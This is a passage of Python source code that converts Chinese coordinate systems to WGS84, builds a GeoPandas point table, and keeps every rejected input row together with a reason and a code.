    if system is not CoordSystem.WGS84 and len(pts):
        glon, glat = (gcj02_to_wgs84 if system is CoordSystem.GCJ02 else bd09_to_wgs84)(glon, glat)
    points = gpd.GeoDataFrame(pts.reset_index(drop=True), geometry=shapely.points(np.asarray(glon), np.asarray(glat)), crs=DISPLAY_CRS)
    if gen.any():
        notes.append(f"{int(gen.sum())} point(s) had no id and were given P-<line> ids (see id_generated).")

    bad_idx = np.flatnonzero(~good)
    rej = out.iloc[bad_idx][ordered].copy()
    for col in ordered:
        if col != "row":
            rej[col] = rej[col].map(_preview)
    rej.insert(1, "reason", ["; ".join(r for _, r in problems[i]) for i in bad_idx])
    rej.insert(2, "code", [problems[i][0][0] for i in bad_idx])
    rej = rej[["row", "reason", "code"] + [c for c in ordered if c != "row"]].reset_index(drop=True)

    if len(points) + len(rej) != n:  # the promise of this module: no row goes missing
        raise AssertionError(f"{label}: {n} rows read but {len(points)} points + {len(rej)} rejected")
    return PointTable(
        points=points,
        rejected=rej,
        source=label,
        coord_system=system.value,
        lon_field=lon_col,
        lat_field=lat_col,
        id_field=id_col,
        name_field=name_col,
        crs=_crs_label(src_crs) if src_crs is not None else None,
        n_rows=n,
        notes=tuple(notes),
    )
